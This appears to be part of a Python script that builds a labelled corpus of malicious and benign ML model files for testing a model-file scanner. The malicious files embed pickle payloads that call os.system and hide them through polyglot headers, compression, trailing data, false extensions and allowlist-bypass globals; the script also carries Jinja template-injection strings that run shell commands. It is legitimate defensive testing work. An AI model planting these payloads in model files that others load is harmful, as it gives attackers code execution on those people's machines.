        path = os.path.join(OUT, '.tmp.joblib')
        joblib.dump({'evil': Evil(), 'w': np.arange(4.0)}, path, compress=(comp, 3) if comp else 0)
        with open(path, 'rb') as f:
            raw = f.read()
        os.remove(path)
        stream = {None: lambda b: b, 'zlib': zlib.decompress, 'gzip': gzip.decompress, 'bz2': bz2.decompress,
                  'lzma': lzma.decompress, 'xz': lzma.decompress, 'lz4': __import__('lz4.frame').frame.decompress}[comp](raw)
        mal(f'joblib/real-dump-{comp or "raw"}.joblib', raw, 'container-compression', streams=[stream], expect=['posix.system'])
    # the wrapper sized for every dtype, byte order and layout: the payload follows the array bytes, so a scanner
    # that skips the wrong number of bytes never sees it (joblib.load reads the array, then unpickles the rest)
    evil_label = pickle.dumps(Evil(), protocol=2)
    odd = {
        'f2': np.arange(3, dtype=np.float16), 'i1': np.arange(5, dtype=np.int8), 'u2': np.arange(7, dtype=np.uint16),
        'c16': np.array([1 + 2j, 3j]), 'bool': np.array([True, False, True]), 'm8': np.array([1, 2], dtype='m8[s]'),
        'M8': np.array(['2024-01-01T00:00'], dtype='M8[ns]'), 'be-f8': np.arange(3, dtype='>f8'),
        'structured': np.zeros(2, dtype=[('a', '<i2'), ('b', '<f8')]), 'fortran': np.asfortranarray(np.ones((3, 2))),
        'noncontig': np.arange(20.0)[::3], 'S5': np.array([b'abc', b'de'], dtype='S5'), 'U3': np.array(['ab', 'c']),
        'empty': np.zeros((0, 4)), 'scalar': np.array(7.0), 'odd-size': np.arange(13, dtype=np.uint8),
    }
    for dn, arr in odd.items():
        for comp in (None, 'zlib'):
            path = os.path.join(OUT, '.tmp.joblib')
            joblib.dump({'a': arr, 'evil': Evil()}, path, compress=(comp, 3) if comp else 0)
            with open(path, 'rb') as f:
                raw = f.read()
            os.remove(path)
            mal(f'joblib/after-array-{dn}-{comp or "raw"}.joblib', raw, 'joblib-array-wrapper', streams=[evil_label],
                note='joblib.load reads the array bytes, then unpickles the payload after them')
    # the wrapper's array bytes, unpadded as joblib < 0.12 wrote them, are opcodes to plain pickle.load
    for cname in ('NumpyArrayWrapper', 'NDArrayWrapper'):
        fake = PROTO(2) + GLOBAL('joblib.numpy_pickle', cname) + b')\x81}(U\x05arrayN' + b'ub' + b'0' + EVIL0_BODY + b'.'
        mal(f'joblib/fake-{cname}.joblib', fake, 'joblib-array-wrapper', expect=['os.system'])
    ndw = PROTO(2) + GLOBAL('joblib.numpy_pickle_compat', 'NDArrayWrapper') + b')\x81}(' + s_('U', 'filename') \
        + s_('X', 'evil_npy.npy') + s_('U', 'subclass') + b'N' + s_('U', 'allow_mmap') + b'\x89ub.'
    mal('joblib/ndarraywrapper-filename.joblib', ndw, 'allowlist-too-wide', expect=['joblib.numpy_pickle_compat.NDArrayWrapper'])
    # ---- 4. polyglots: pickle at 0 with another format's signature further on ------------------------
    import h5py
    for pn in ('p0', 'p2', 'nohdr-stack'):
        p = payloads[pn]
        hb = io.BytesIO()
        with h5py.File(hb, 'w', userblock_size=512) as f:
            f['x'] = np.zeros(2)
        h5 = bytearray(hb.getvalue())
        h5[: len(p)] = p
        for ext in ('.h5', '.hdf5', '.keras', '.pkl'):
            mal(f'polyglot/hdf5-userblock-{pn}{ext}', bytes(h5), 'polyglot-signature', streams=[p])
        if len(p) < 100:
            tb = io.BytesIO()
            with tarfile.open(fileobj=tb, mode='w', format=tarfile.USTAR_FORMAT, encoding='latin-1') as t:
                ti = tarfile.TarInfo(p.decode('latin-1'))
                ti.size, ti.mtime = 4, 0
                t.addfile(ti, io.BytesIO(b'data'))
            tdata = tb.getvalue()
            assert tdata[257:262] == b'ustar'
            for ext in ('.tar', '.pkl', '.pt'):
                mal(f'polyglot/ustar-257-{pn}{ext}', tdata, 'polyglot-signature', streams=[p])
        for ext in ('.zip', '.pt', '.npz'):
            mal(f'polyglot/prepended-zip-{pn}{ext}', p + torch_zip('archive', benign_pkl), 'polyglot-signature', streams=[p])
        st_hdr = json.dumps({'w': {'dtype': 'F32', 'shape': [1], 'data_offsets': [0, 4]}}).encode()
        mal(f'polyglot/prepended-safetensors-{pn}.safetensors', p + struct.pack('<Q', len(st_hdr)) + st_hdr + b'\0' * 4,
            'polyglot-signature', streams=[p])
        mal(f'polyglot/prepended-npy-{pn}.npy', p + npy(b'\0' * 8, "{'descr': '<f8', 'fortran_order': False, 'shape': (1,), }"),
            'polyglot-signature', streams=[p])
        mal(f'polyglot/hdf5-at-512-{pn}.pkl', p + b'\0' * (512 - len(p)) + b'\x89HDF\r\n\x1a\n' + b'\0' * 64, 'polyglot-signature',
            streams=[p])
        mal(f'polyglot/ustar-at-257-{pn}.pkl', p + b'\0' * (257 - len(p)) + b'ustar\x0000' + b'\0' * 243, 'polyglot-signature',
            streams=[p])
    # GGUF: magic, version and counts that are also opcodes ('G' BINFLOAT eats 8 bytes, 'N0' pushes and pops)
    gg = b'GGUF' + struct.pack('<I', 3) + b'\x00' + b'N0N0N0N' + b'0N0N0N0N' + b'0' + EVIL0
    mal('polyglot/gguf-header-opcodes.gguf', gg, 'polyglot-signature', expect=['os.system'])
    mal('polyglot/gguf-header-opcodes.pkl', gg, 'polyglot-signature', expect=['os.system'])
    # ---- 5. trailing data: a second pickle after STOP, and a pickle broken right after its payload ------
    for pn, p in payloads.items():
        mal(f'trailing/after-benign-{pn}.pkl', benign_pkl + p, 'trailing-data', streams=[benign_pkl + p], multi=True)
        mal(f'trailing/garbage-after-{pn}.pkl', p + bytes(random.getrandbits(8) for _ in range(64)),
            'trailing-data', streams=[p])
        mal(f'trailing/broken-after-payload-{pn}.pkl', p[:-1] + b'\xff\xfe garbage', 'trailing-data', streams=[p[:-1]])
    # ---- 6. lying extensions ---------------------------------------------------------------------------
    for pn, p in payloads.items():
        for ext in ('.txt', '.csv', '.json', '.md', '.yaml', '.safetensors', '.onnx', '.gguf', '.h5', '.npy', '.png',
                    '.pb', '.tflite', '.msgpack', '.pkl', '.pickle', '.pt', '.pth', '.bin', '.ckpt', '.joblib', '.dill',
                    '.sav', ''):
            mal(f'extension/{pn}{ext or "-none"}', p, 'lying-extension', streams=[p])
    # ---- 7. allowlist too wide: re-exports through allowlisted modules, dangerous framework internals ----
    wide = [
        ('sklearn.utils._joblib', 'Parallel'), ('sklearn.datasets._lfw', 'Memory'),
        ('sklearn.datasets._species_distributions', 'BytesIO'), ('sklearn.datasets._openml', 'Request'),
        ('sklearn.datasets._covtype', 'TemporaryDirectory'), ('sklearn.utils._available_if', 'MethodType'),
        ('sklearn.utils._estimator_html_repr', 'Template'), ('sklearn.utils._testing', 'TestCase'),
        ('sklearn.datasets._covtype', 'GzipFile'), ('torch._utils', '_set_obj_state'),
        ('joblib.numpy_pickle_compat', 'NDArrayWrapper'), ('sklearn.utils._testing', 'CalledProcessError'),
    ]
    for m, n in wide:
        for proto in (0, 2, 4):
            g = GLOBAL(m, n) if proto < 4 else SGLOBAL(m, n)
            mal(f'allowlist/{m}.{n}-p{proto}.pkl', head(proto) + g + tup(text('x', proto), proto=proto) + b'R.',
                'allowlist-too-wide', expect=[f'{m}.{n}'])
    # ---- 8. unverifiable files with model-file extensions, malformed formats ------------------------------
    for ext in ('.pkl', '.pt', '.bin', '.joblib', '.ckpt', '.pth'):
        mal(f'unverifiable/empty{ext}', b'', 'unverifiable-model-file')
        mal(f'unverifiable/random{ext}', bytes(random.getrandbits(8) for _ in range(512)), 'unverifiable-model-file')
    for i, bad in enumerate([b'not json', b'{"a": ', b'\xff\xfe{}', b'[1,2]']):
        mal(f'malformed/safetensors-header-{i}.safetensors', struct.pack('<Q', len(bad)) + bad + b'\0' * 8, 'malformed-format')
    for i, cfg in enumerate(['{not json', '{"class_name": "Sequential", "config": ']):
        hb = io.BytesIO()
        with h5py.File(hb, 'w') as f:
            f.attrs['model_config'] = cfg
        mal(f'malformed/keras-config-{i}.h5', hb.getvalue(), 'malformed-format')
    # Keras configs the byte search or the UTF-8 decoder missed
    lam = {'class_name': 'Lambda', 'config': {'name': 'evil', 'function': ['4wEAAAAAAAAAAAAAAAEAAAACAAAAQwAAAHMMAAAAdABkAYMBAQB8AFMAKQJO', None, None],
                                              'function_type': 'lambda'}}
    model = {'config': {'name': 'm', 'layers': [lam]}, 'class_name': 'Sequential'}
    for i, s in enumerate([json.dumps(model), json.dumps(model, indent=1), json.dumps(model, separators=(',', ':')).replace('"class_name":', '"class_name" :')]):
        hb = io.BytesIO()
        with h5py.File(hb, 'w') as f:
            f.attrs['model_config'] = s
        mal(f'keras/h5-config-{i}.h5', hb.getvalue(), 'keras-config')
    kcfg = {'module': 'keras', 'class_name': 'Sequential', 'config': {'layers': [
        {'module': 'keras.layers', 'class_name': 'Lambda', 'config': {'name': 'l', 'function': {'class_name': '__lambda__', 'config': {'code': 'YWJj'}}}}]}}
    for enc in ('utf-8-sig', 'utf-16', 'utf-16-le', 'utf-16-be', 'utf-32'):
        mal(f'keras/config-{enc}.keras', zipped([('metadata.json', b'{}'), ('config.json', json.dumps(kcfg).encode(enc))]), 'keras-config')
    # ---- 9. chat templates: duplicate GGUF keys, names built at render time ---------------------------
    ssti = [
        "{{ ''.__class__.__mro__[1].__subclasses__() }}",
        "{% set x = '__glo' + 'bals__' %}{{ cycler.__init__|attr(x) }}",
        "{% set a = 'os' %}{{ self|attr('_TemplateReference__context') }}",
        "{{ messages|map(attribute='__class__')|list }}",
        "{% set g = cycler %}{{ g.__init__.__globals__.os.popen('id').read() }}",
        "{% set n = namespace() %}{{ n.__init__.__globals__ }}",
        "{{ joiner.__init__.__globals__['__builtins__']['eval']('1') }}",
        "{{ lipsum.__globals__.os.popen('id').read() }}",
        "{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
        "{{ '{0.__class__}'.format(messages) }}",
    ]

    def gguf_kv(key, value):
        kb, vb = key.encode(), value.encode()
        return struct.pack('<Q', len(kb)) + kb + struct.pack('<I', 8) + struct.pack('<Q', len(vb)) + vb

    for i, t in enumerate(ssti):
        kvs = [gguf_kv('general.architecture', 'llama'), gguf_kv('tokenizer.chat_template', t),
               gguf_kv('tokenizer.chat_template', '{{ messages[0].content }}')]
        mal(f'templates/gguf-duplicate-key-{i}.gguf', b'GGUF' + struct.pack('<IQQ', 3, 0, len(kvs)) + b''.join(kvs), 'template-ssti')
        mal(f'templates/tokenizer_config-{i}/tokenizer_config.json', json.dumps({'chat_template': t}).encode(), 'template-ssti')
    for i, t in enumerate(ssti[:4]):
        body = json.dumps({'chat_template': t})[:-1]
        for tag, extra in (('nan', ', "temperature": NaN}'), ('infinity', ', "max": -Infinity}')):
            mal(f'templates/json-{tag}-{i}/tokenizer_config.json', (body + extra).encode(), 'template-ssti',
                note='json.loads accepts NaN/Infinity; a strict JSON parser fails, and the failure must not be silent')
    # ---- 10. the scanner's own confusion cases: memo and BUILD setattr parking -------------------------
    for i, t in enumerate(TARGETS[:8]):
        m, n, a = t
        park = PROTO(2) + GLOBAL('collections', 'OrderedDict') + b')R' + b'}(U\x01x' + s_('X', m) + b'U\x01y' + s_('X', n) + b'ub0' \
            + s_('X', m) + s_('X', n) + b'\x93' + s_('X', a) + b'\x85R.'
        mal(f'confusion/build-parking-{m}.{n}.pkl', park, 'reach-callable', expect=[f'{m}.{n}'])

    benign_corpus(np)
    MANIFEST.sort(key=lambda e: e['file'])
    with open(os.path.join(HERE, 'manifest.json'), 'w') as f:
        json.dump(MANIFEST, f, indent=0, sort_keys=True)
        f.write('\n')
    nm = sum(e['kind'] == 'malicious' for e in MANIFEST)
    print(f'{nm} malicious, {len(MANIFEST) - nm} benign', file=sys.stderr)


def hash_i(s):
    return int(hashlib.sha1(s.encode()).hexdigest()[:6], 16)


# --------------------------------------------------------------------------------------------------------
# Benign: written by the real producers, never loaded
# --------------------------------------------------------------------------------------------------------
def benign_corpus(np):
    import joblib
    import pandas as pd
    import torch
    from sklearn.cluster import DBSCAN, KMeans
    from sklearn.compose import ColumnTransformer
    from sklearn.decomposition import NMF, PCA
    from sklearn.ensemble import GradientBoostingClassifier, HistGradientBoostingClassifier, HistGradientBoostingRegressor, \
        IsolationForest, RandomForestClassifier
    from sklearn.feature_extraction.text import TfidfVectorizer
    from sklearn.linear_model import Lasso, LogisticRegression, Ridge
    from sklearn.naive_bayes import GaussianNB
    from sklearn.neighbors import KNeighborsClassifier
    from sklearn.neural_network import MLPClassifier
    from sklearn.pipeline import Pipeline, make_pipeline
    from sklearn.preprocessing import LabelEncoder, MinMaxScaler, OneHotEncoder, StandardScaler
    from sklearn.svm import SVC, SVR
    from sklearn.tree import DecisionTreeClassifier

    rng = np.random.RandomState(0)
    X = rng.rand(40, 4)
    y = (X[:, 0] > 0.5).astype(int)
    torch.manual_seed(0)

    def dumps_all(obj, base, cause, protos=(2, 4, 5)):
        for p in protos:
            ben(f'{base}-p{p}.pkl', pickle.dumps(obj, protocol=p), cause)

    def jl(obj, base, cause, comps=(None, 'zlib', 'lzma')):
        for c in comps:
            b = io.BytesIO()
            if c is None:
                joblib.dump(obj, b)
            else:
                # joblib needs a path for compressed files: dump to a temporary file in memory-backed path
                path = os.path.join(OUT, '.tmp.joblib')
                joblib.dump(obj, path, compress=(c, 3))
                with open(path, 'rb') as f:
                    b.write(f.read())
                os.remove(path)
            ben(f'{base}-{c or "raw"}.joblib', b.getvalue(), cause)

    ests = {
        'svc': SVC(probability=False).fit(X, y), 'svr': SVR().fit(X, X[:, 1]), 'pca': PCA(2).fit(X),
        'nmf': NMF(2, init='nndsvd', max_iter=50, random_state=0).fit(X), 'dbscan': DBSCAN(eps=0.3).fit(X),
        'hgb-clf': HistGradientBoostingClassifier(max_iter=5, random_state=0).fit(X, y),
        'hgb-reg': HistGradientBoostingRegressor(max_iter=5, random_state=0).fit(X, X[:, 0]),
        'logreg': LogisticRegression().fit(X, y), 'ridge': Ridge().fit(X, X[:, 0]), 'lasso': Lasso().fit(X, X[:, 0]),
        'rf': RandomForestClassifier(3, max_depth=3, random_state=0).fit(X, y),
        'gb': GradientBoostingClassifier(n_estimators=3, max_depth=2, random_state=0).fit(X, y),
        'tree': DecisionTreeClassifier(max_depth=3).fit(X, y), 'kmeans': KMeans(2, n_init=2, random_state=0).fit(X),
        'scaler': StandardScaler().fit(X), 'minmax': MinMaxScaler().fit(X), 'gnb': GaussianNB().fit(X, y),
        'knn': KNeighborsClassifier(3).fit(X, y), 'iforest': IsolationForest(n_estimators=3, random_state=0).fit(X),
        'mlp': MLPClassifier((4,), max_iter=20, random_state=0).fit(X, y),
        'labelenc': LabelEncoder().fit(['a', 'b', 'c']),
        'tfidf': TfidfVectorizer().fit(['the cat sat', 'the dog ran', 'a cat ran']),
        'pipeline': make_pipeline(StandardScaler(), PCA(2), SVC()).fit(X, y),
        'pipeline-hgb': Pipeline([('s', MinMaxScaler()), ('m', HistGradientBoostingClassifier(max_iter=3, random_state=0))]).fit(X, y),
    }
    df = pd.DataFrame({'num': [1.5, 2.5, 3.5], 'cat': ['a', 'b', 'a']})
    ests['column-transformer'] = ColumnTransformer([('oh', OneHotEncoder(), ['cat']), ('sc', StandardScaler(), ['num'])]).fit(df)
    import warnings
    warnings.filterwarnings('ignore')
    for n, e in ests.items():
        dumps_all(e, f'sklearn/{n}', 'sklearn-estimator')
        jl(e, f'sklearn/{n}', 'sklearn-estimator')
    for dn, arr in {
        'f2': np.arange(3, dtype=np.float16), 'i1': np.arange(5, dtype=np.int8), 'c16': np.array([1 + 2j]),
        'bool': np.array([True, False, True]), 'M8': np.array(['2024-01-01'], dtype='M8[D]'), 'be-f8': np.arange(3, dtype='>f8'),
        'structured-open': np.zeros(2, dtype=[('Open', '<f8'), ('Close', '<f8')]), 'fortran': np.asfortranarray(np.ones((3, 2))),
        'noncontig': np.arange(20.0)[::3], 'odd-size': np.arange(13, dtype=np.uint8), 'empty': np.zeros((0, 4)),
    }.items():
        jl({'a': arr, 'b': [1, 2]}, f'joblib/array-{dn}', 'joblib-array', comps=(None, 'zlib'))
    jl(ests['pipeline'], 'sklearn/pipeline-more', 'joblib-compression', comps=('gzip', 'bz2', 'xz', 'lz4'))
    # pandas
    idx = pd.date_range('2024-01-01', periods=4, freq='D')
    frames = {
        'simple': pd.DataFrame({'a': [1, 2, 3], 'b': [0.1, 0.2, 0.3], 'c': ['x', 'y', 'z']}),
        'datetimeindex': pd.DataFrame({'v': [1.0, 2.0, 3.0, 4.0]}, index=idx),
        'datetimeindex-tz': pd.DataFrame({'v': [1, 2, 3, 4]}, index=idx.tz_localize('UTC')),
        'categorical': pd.DataFrame({'c': pd.Categorical(['a', 'b', 'a'], categories=['a', 'b'])}),
        'multiindex': pd.DataFrame({'v': [1, 2, 3, 4]}, index=pd.MultiIndex.from_product([['a', 'b'], [1, 2]])),
        'int64-nullable': pd.DataFrame({'i': pd.array([1, None, 3], dtype='Int64')}),
        'boolean-nullable': pd.DataFrame({'b': pd.array([True, None, False], dtype='boolean')}),
        'string-dtype': pd.DataFrame({'s': pd.array(['a', None, 'c'], dtype='string')}),
        'timedelta': pd.DataFrame({'t': pd.to_timedelta([1, 2, 3], unit='s')}),
        'period': pd.DataFrame({'p': pd.period_range('2024-01', periods=3, freq='M')}),
        'interval': pd.DataFrame({'i': pd.interval_range(0, 3)}),
        'series': pd.Series([1, 2, 3], name='s'),
        'sparse': pd.DataFrame({'s': pd.arrays.SparseArray([0, 0, 1])}),
        'range-index': pd.DataFrame({'a': range(5)}),
    }
    for n, f in frames.items():
        dumps_all(f, f'pandas/{n}', 'pandas-object', protos=(2, 3, 4, 5))
        for comp in ('gzip', 'bz2', 'xz'):
            path = os.path.join(OUT, '.tmp.pkl')
            f.to_pickle(path, compression={'method': comp, 'mtime': 0} if comp == 'gzip' else comp)
            with open(path, 'rb') as fh:
                ben(f'pandas/{n}.pkl.{comp}', fh.read(), 'pandas-object')
            os.remove(path)
    # numpy
    arrays = {
        'f32': np.arange(12, dtype=np.float32).reshape(3, 4), 'i64': np.arange(5), 'bool': np.array([True, False]),
        'u8': np.arange(10, dtype=np.uint8), 'c128': np.array([1 + 2j]), 'f16': np.ones(3, np.float16),
        'str': np.array(['a', 'bc']), 'bytes': np.array([b'a', b'bc']), 'datetime': np.array(['2024-01-01'], dtype='datetime64[D]'),
        'structured-open': np.zeros(2, dtype=[('Open', '<f8'), ('Close', '<f8'), ('Volume', '<i8')]),
        'structured-object-name': np.zeros(2, dtype=[('Object', '<f8'), ('O', '<i4'), ("'O'", 'u1')]),
        'structured-nested': np.zeros(1, dtype=[('a', [('O', '<f4')]), ('b', '<i2', (2,))]),
        'fortran': np.asfortranarray(np.arange(6.0).reshape(2, 3)), 'scalar': np.array(3.0), 'empty': np.zeros((0, 3)),
    }
    for n, a in arrays.items():
        b = io.BytesIO()
        np.save(b, a, allow_pickle=False)
        ben(f'numpy/{n}.npy', b.getvalue(), 'numpy-array')
        dumps_all(a, f'numpy/{n}', 'numpy-array', protos=(2, 5))
    b = io.BytesIO()
    np.savez(b, **{k: v for k, v in arrays.items() if k != 'scalar'})
    ben('numpy/all.npz', b.getvalue(), 'numpy-array')
    b = io.BytesIO()
    np.savez_compressed(b, a=arrays['f32'], s=arrays['structured-open'])
    ben('numpy/compressed.npz', b.getvalue(), 'numpy-array')
    b = io.BytesIO()
    np.save(b, np.array(['plain', 'strings', None], dtype=object), allow_pickle=True)
    ben('numpy/object-strings.npy', b.getvalue(), 'numpy-array')
    # torch
    mods = {
        'linear': torch.nn.Linear(4, 2), 'conv': torch.nn.Conv2d(1, 2, 3), 'lstm': torch.nn.LSTM(3, 4),
        'sequential': torch.nn.Sequential(torch.nn.Linear(4, 4), torch.nn.ReLU(), torch.nn.Linear(4, 1)),
        'batchnorm': torch.nn.BatchNorm1d(3), 'embedding': torch.nn.Embedding(10, 3),
    }
    for n, m in mods.items():
        for fmt, zipf in (('zip', True), ('legacy', False)):
            b = io.BytesIO()
            torch.save(m.state_dict(), b, _use_new_zipfile_serialization=zipf)
            ben(f'torch/{n}-state-dict-{fmt}.pt', b.getvalue(), 'torch-state-dict')
    for dt in (torch.float32, torch.float16, torch.int64, torch.bool, torch.bfloat16, torch.uint8):
        b = io.BytesIO()
        torch.save({'t': torch.zeros(3, dtype=dt)}, b)
        ben(f'torch/tensor-{str(dt).split(".")[1]}.pt', b.getvalue(), 'torch-state-dict')
    b = io.BytesIO()
    opt = torch.optim.SGD(mods['linear'].parameters(), lr=0.1, momentum=0.9)
    torch.save({'model': mods['linear'].state_dict(), 'optimizer': opt.state_dict(), 'epoch': 3}, b)
    ben('torch/checkpoint.pt', b.getvalue(), 'torch-state-dict')
    # plain data, every protocol
    import collections
    import datetime
    import decimal
    plain = {
        'dict': {'a': 1, 'b': [1, 2, 3], 'c': {'d': None}}, 'list': list(range(20)), 'tuple': (1, 'two', 3.0),
        'set': {1, 2, 3}, 'frozenset': frozenset({'a'}), 'bytes': b'\x00\x01\xff', 'bytearray': bytearray(b'abc'),
        'str-unicode': 'héllo ✓ \n newline', 'bigint': 2 ** 200, 'negint': -(2 ** 40), 'float': 3.25, 'complex': 1 + 2j,
        'none': None, 'bools': [True, False], 'nested': [[[[1]]], {'k': ({'x'},)}], 'datetime': datetime.datetime(2024, 1, 2, 3, 4, 5),
        'date': datetime.date(2024, 1, 2), 'timedelta': datetime.timedelta(days=2), 'decimal': decimal.Decimal('1.10'),
        'ordereddict': collections.OrderedDict(a=1), 'counter': collections.Counter('aab'), 'deque': collections.deque([1, 2]),
        'shared-refs': (lambda x: [x, x, {'y': x}])([1, 2]), 'empty-str': '', 'long-str': 'x' * 300,
        'config': {'lr': 0.001, 'layers': [64, 32], 'name': 'model', 'tags': ('a', 'b')},
    }
    rec = [1]
    rec.append(rec)
    plain['recursive'] = rec
    for n, o in plain.items():
        for p in range(6):
            ben(f'plain/{n}-p{p}.pkl', pickle.dumps(o, protocol=p), 'plain-data')
    # real chat templates (test/fixtures/model-scan/chat-templates), in tokenizer_config.json and in GGUF metadata
    tdir = os.path.join(HERE, '..', '..', 'fixtures', 'model-scan', 'chat-templates', 'benign')
    templates = {n[:-6]: open(os.path.join(tdir, n), encoding='utf-8').read() for n in sorted(os.listdir(tdir))}
    templates['namespace-system'] = ("{%- set ns = namespace(system='') -%}{%- for m in messages -%}{%- if m.role == 'system' -%}"
                                     "{%- set ns.system = ns.system + m.content -%}{%- endif -%}{%- endfor -%}{{ ns.system }}"
                                     "{%- for m in messages if m.role != 'system' %}{{ m.role }}: {{ m.content }}{% endfor %}")
    for n, t in templates.items():
        ben(f'templates/{n}/tokenizer_config.json', json.dumps({'chat_template': t, 'eos_token': '</s>'}, indent=2).encode(),
            'chat-template')
        kb, vb = b'tokenizer.chat_template', t.encode()
        kv = struct.pack('<Q', len(kb)) + kb + struct.pack('<I', 8) + struct.pack('<Q', len(vb)) + vb
        ben(f'templates/{n}.gguf', b'GGUF' + struct.pack('<IQQ', 3, 0, 1) + kv, 'chat-template')
    # a benign pickle that holds zip bytes (not a polyglot: the zip is data inside the stream)
    zb = zipped([('a.txt', b'hello')])
    for p in (2, 4, 5):
        ben(f'plain/zip-bytes-p{p}.pkl', pickle.dumps({'archive': zb}, protocol=p), 'plain-data')
    # a protocol-0 line over 1 MiB, expanded by the test
    small = pickle.dumps('A' * 16, protocol=0)
    assert small.startswith(b'V' + b'A' * 16)
    ben('plain/long-line-p0.pkl', small, 'plain-data', expand={'at': 1, 'count': (1 << 20) + 5, 'fill': 'A'})


if __name__ == '__main__':
    main()
